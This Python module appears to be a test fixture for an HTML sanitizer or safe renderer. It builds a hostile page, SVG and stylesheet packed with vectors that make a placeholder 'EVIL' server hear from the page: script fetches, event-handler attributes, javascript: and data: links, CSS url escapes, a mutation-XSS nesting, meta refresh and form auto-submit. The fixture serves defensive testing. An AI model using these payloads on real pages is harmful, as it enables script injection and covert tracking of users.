"""A page that tries everything to act, or to tell somebody that it was opened."""

from __future__ import annotations

PAGE = """<!doctype html>
<html manifest="EVIL/manifest" onload="fetch('EVIL/onload')">
<head>
<meta charset="utf-8">
<title>Hostile</title>
<base href="EVIL/base/" target="_self">
<meta http-equiv="refresh" content="0; url=EVIL/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv="set-cookie" content="evil=1">
<link rel="stylesheet" href="EVIL/sheet.css">
<link rel="preload" as="image" href="EVIL/preload.png">
<link rel="prefetch" href="EVIL/prefetch">
<link rel="dns-prefetch" href="//evil.invalid">
<link rel="icon" href="EVIL/icon.png">
<link rel="import" href="EVIL/import.html">
<style>
@import "EVIL/import.css";
@import url(EVIL/import2.css);
@font-face { font-family: evil; src: url('EVIL/font.woff2'); }
body { background: url(EVIL/style.png); font-family: evil; }
h1::before { content: url("EVIL/content.png"); }
p { background: u\\72l(EVIL/escaped.png); list-style-image: image-set("EVIL/set.png" 1x); }
/* </style> */ a { cursor: url(EVIL/cursor.png), auto; }
</style>
<script src="EVIL/script.js"></script>
<script>new Image().src = "EVIL/inline"; document.cookie = "evil=1"; fetch("EVIL/fetch");</script>
<script type="module">import "EVIL/module.js";</script>
<noscript><img src="EVIL/noscript.png"></noscript>
</head>
<body background="EVIL/background.png" onload="fetch('EVIL/body')">
<h1>The page that acts</h1>
<p style="background-image:url(EVIL/inline-style.png)">A paragraph.</p>
<img src="EVIL/img.png" srcset="EVIL/set-1.png 1x, EVIL/set-2.png 2x" onerror="fetch('EVIL/error')">
<img src="x:" data-src="EVIL/lazy.png" lowsrc="EVIL/low.png">
<picture><source srcset="EVIL/source.webp"><img src="EVIL/picture.png"></picture>
<form id="f" action="EVIL/form" method="post"><input name="a" value="1" autofocus
onfocus="document.getElementById('f').submit()"><button formaction="EVIL/button">Go</button></form>
<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>fetch('EVIL/srcdoc')</script>"></iframe>
<object data="EVIL/object.svg"></object><embed src="EVIL/embed.svg"><applet code="EVIL/x"></applet>
<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('EVIL/svg')"><script>fetch("EVIL/s")</script>
<image href="EVIL/svg-image.png"/><use href="EVIL/use.svg#a"/><a href="javascript:fetch('EVIL/sa')">
<text>x</text></a><animate onbegin="fetch('EVIL/animate')" attributeName="x" dur="1s"/>
<foreignObject><iframe src="EVIL/foreign"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src="EVIL/mutated.png" onerror="fetch('EVIL/m')"></style>
</mglyph></table></mtext></math>
<video src="EVIL/video.mp4" poster="EVIL/poster.png" autoplay></video>
<audio src="EVIL/audio.mp3" autoplay></audio><track src="EVIL/track.vtt">
<a id="js" href="javascript:fetch('EVIL/javascript')">script</a>
<a href=" jAvAsCrIpT:fetch('EVIL/case')">case</a>
<a href="data:text/html,<script>fetch('EVIL/data')</script>">data</a>
<a href="vbscript:x">vb</a> <a href="EVIL/link" ping="EVIL/ping" target="_blank">link</a>
<details open ontoggle="fetch('EVIL/toggle')"><summary>s</summary>x</details>
<marquee onstart="fetch('EVIL/marquee')">m</marquee>
<template><script>fetch("EVIL/template")</script></template>
<xmp><script>fetch("EVIL/xmp")</script></xmp>
<input type="image" src="EVIL/input.png"><table background="EVIL/table.png"><tr><td>x</table>
<portal src="EVIL/portal"></portal><frameset><frame src="EVIL/frameset"></frameset>
<p>The end of the page.</p>
</body></html>
"""
"""``EVIL`` stands for the address of a server that must hear nothing."""

DRAWING = """<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('EVIL/svg')">
<script>fetch("EVIL/script")</script><image href="EVIL/image.png"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="EVIL/frame"/></foreignObject></svg>
"""

SHEET = """@import "EVIL/sheet/import.css"; body { background: url('EVIL/sheet/background.png') }
h1 { color: rgb(1, 2, 3) }"""


def hostile(text: str, evil: str) -> bytes:
    """The text with the server's address in it."""
    return text.replace("EVIL", evil).encode()
